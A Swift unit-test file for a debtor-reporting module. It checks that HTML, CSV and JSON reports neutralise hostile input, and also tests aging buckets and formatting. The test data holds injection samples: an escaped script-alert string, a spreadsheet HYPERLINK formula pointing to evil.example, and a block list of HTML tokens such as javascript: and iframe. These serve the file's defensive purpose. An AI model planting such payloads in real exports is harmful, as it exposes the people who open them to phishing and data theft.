import Foundation
import Testing

@testable import Reports

/// Hostile debtor data stays inert in every format; HTML is self-contained and printable on A4.
@Suite struct ReportSafetyTests {
    func all(_ format: ReportFormat, _ dialect: CSVDialect = .standard) throws -> [ReportKind: String] {
        let l = try TempLedger()
        try seedLedger(l.store)
        var out: [ReportKind: String] = [:]
        for kind in ReportKind.allCases {
            out[kind] = try Reports.text(kind: kind, format: format, asOf: seedDay, store: l.store, options: pinnedOptions(dialect))
        }
        return out
    }

    @Test func htmlEscapesEveryValueAndLoadsNothing() throws {
        for (kind, html) in try all(.html) {
            #expect(!html.contains("<script"), "\(kind)")
            #expect(!html.contains("\r"), "\(kind)")
            for banned in ["src=", "href=", "url(", "@import", "<link", "<iframe", "<object", "<img", "javascript:"] {
                #expect(!html.lowercased().contains(banned), "\(kind): \(banned)")
            }
            #expect(html.contains("@page { size: A4"))
            #expect(html.contains("Content-Security-Policy"))
        }
        let l = try TempLedger()
        try seedLedger(l.store)
        var options = pinnedOptions()
        options.topRows = 25
        let aging = try Reports.text(kind: .aging, format: .html, asOf: seedDay, store: l.store, options: options)
        #expect(aging.contains("&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; Co"))
        #expect(aging.contains("Line  Break BV"))
        #expect(aging.contains("<svg"))
    }

    /// Open and close tags balance in each report's body (so no value broke out of its element).
    @Test func htmlTagsBalance() throws {
        for (kind, html) in try all(.html) {
            var stack: [String] = []
            var rest = Substring(html)
            while let lt = rest.firstIndex(of: "<") {
                guard let gt = rest[lt...].firstIndex(of: ">") else { Issue.record("\(kind): unclosed <"); break }
                let tag = rest[rest.index(after: lt)..<gt]
                rest = rest[rest.index(after: gt)...]
                if tag.hasPrefix("!") || tag.hasSuffix("/") { continue }
                let name = String(tag.split(separator: " ").first ?? "")
                if ["meta"].contains(name) { continue }
                if name.hasPrefix("/") {
                    #expect(stack.popLast() == String(name.dropFirst()), "\(kind): </\(name.dropFirst())>")
                } else {
                    stack.append(name)
                }
            }
            #expect(stack.isEmpty, "\(kind): \(stack)")
        }
    }

    @Test func csvNeutralisesFormulasButKeepsAmountsNumeric() throws {
        #expect(CSVRenderer.neutralised("=1+1") == "'=1+1")
        #expect(CSVRenderer.neutralised("+32 2 123") == "'+32 2 123")
        #expect(CSVRenderer.neutralised("-2+3") == "'-2+3")
        #expect(CSVRenderer.neutralised("@SUM(A1)") == "'@SUM(A1)")
        #expect(CSVRenderer.neutralised("\tx") == "'\tx")
        #expect(CSVRenderer.neutralised("\rx") == "'\rx")
        #expect(CSVRenderer.neutralised("Plain") == "Plain")
        let csv = try all(.csv, .excelBE)
        let aging = csv[.aging] ?? ""
        #expect(aging.hasPrefix("\u{FEFF}Debtor;Name;Cur.;Open;"), "the main table only, headed in the workspace language")
        #expect(aging.contains("K003;\"'=HYPERLINK(\"\"http://evil.example/?x\"\",\"\"click me\"\")\";EUR;"))
        #expect(aging.contains(";'-2+3 Minus SA;"))
        #expect(aging.contains("\"Line\r\nBreak BV\""))
        // A credit note's negative amount stays a number, with a decimal comma.
        #expect(aging.contains(";-150,00;"))
        let worklist = csv[.worklist] ?? ""
        #expect(worklist.contains(";'=1+1;"))
        for (kind, text) in csv {
            for line in text.split(separator: "\r\n") {
                for field in line.split(separator: ";", omittingEmptySubsequences: false) {
                    #expect(!field.hasPrefix("="), "\(kind): \(line)")
                    #expect(!field.hasPrefix("@"), "\(kind): \(line)")
                }
            }
        }
    }

    @Test func standardCSVUsesCommaAndPoint() throws {
        let aging = try all(.csv)[.aging] ?? ""
        #expect(!aging.hasPrefix("\u{FEFF}"))
        #expect(aging.contains("K001,Brasserie Éclair SRL,EUR,3500.00,1000.00,0.00,2500.00,0.00,0.00,31,2\n"))
    }

    @Test func jsonIsValid() throws {
        for (kind, text) in try all(.json) {
            let object = try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [String: Any]
            #expect(object?["report"] as? String == kind.rawValue)
        }
    }

    @Test func agingBucketEdges() throws {
        // Due today is not due; 30 days late is 1–30; 31 is 31–60; 90 is 61–90; 91 is > 90.
        let json = try all(.json)[.aging] ?? ""
        let object = try JSONSerialization.jsonObject(with: Data(json.utf8)) as? [String: Any]
        let sections = object?["sections"] as? [[String: Any]] ?? []
        let buckets = sections.first { $0["id"] as? String == "buckets" }?["rows"] as? [[String: Any]] ?? []
        let eur = buckets.filter { $0["currency"] as? String == "EUR" }.map { $0["amount"] as? String ?? "" }
        #expect(eur == ["1000.00", "749.99", "3410.00", "12345.67", "4200.00"])
    }

    @Test func formatting() {
        #expect(Format.grouped(minor: 123_456_789, digits: 2) == "1,234,567.89")
        #expect(Format.grouped(minor: -5, digits: 2) == "-0.05")
        #expect(Format.compact(minor: 1_250_000_00, .eur) == "1.3M")
        #expect(Format.compact(minor: 95_000, .eur) == "950")
        #expect(Format.ratio(2, 3, places: 1) == "0.7")
        #expect(Format.ratio(1, 0, places: 1) == nil)
        #expect(SVGChart.axis(max: 1234).max == 1500)
        #expect(DunningReport.channels("email+letter") == "email + letter")
        #expect(DunningReport.channels("[\"email\",\"letter\"]") == "email + letter")
    }
}
